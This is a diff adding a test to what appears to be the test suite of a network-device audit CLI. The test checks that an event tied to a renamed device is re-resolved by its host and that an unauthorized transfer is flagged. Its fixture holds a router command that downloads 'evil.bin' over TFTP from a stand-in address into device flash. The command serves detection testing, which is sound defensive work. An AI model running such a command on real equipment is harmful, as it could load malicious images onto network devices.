@@ -284,6 +284,17 @@ describe('an NDJSON events file with fields of the wrong type', () => {
   });
 });
 
+test('an NDJSON event naming a device that is not in git is resolved again by its host, not dropped', async () => {
+  const state = join(dir, 'nd-state.json');
+  writeFileSync(state, JSON.stringify({ version: 1, kind: 'imagegate-state', generatedAt: TIMES.collect, devices: [] }));
+  const event = { ts: '2026-12-12T14:20:00.000Z', host: '192.0.2.32', kind: 'transfer', actor: 'admin', command: 'copy tftp://203.0.113.66/evil.bin flash:evil.bin', file: 'evil.bin', protocol: 'tftp', direction: 'download', source: { path: 'tacacs.acct', line: 1, format: 'tacacs' }, raw: 'r', clock: 'synced' };
+  writeFileSync(join(dir, 'renamed.ndjson'), `${JSON.stringify({ ...event, device: 'old-name-01' })}\n${JSON.stringify({ ...event, device: 'old-name-02', host: 'nowhere.example' })}\n`);
+  const io = memoryIo({}, dir);
+  await runCli(['reconcile', '--repo', repoDir, '--at', TIMES.collect, '--state', state, '--events', 'renamed.ndjson', '--format', 'json', '--fail-on', 'none'], io);
+  const rules = (JSON.parse(io.out) as { findings: Array<{ rule: string; device: string }> }).findings.filter((f) => f.rule !== 'unverified').map((f) => `${f.rule} ${f.device}`);
+  expect(rules).toEqual(expect.arrayContaining(['unauthorized-transfer fra1-access-02', 'unknown-device nowhere.example']));
+});
+
 describe('git that fails', () => {
   let state: string;
   beforeAll(() => {
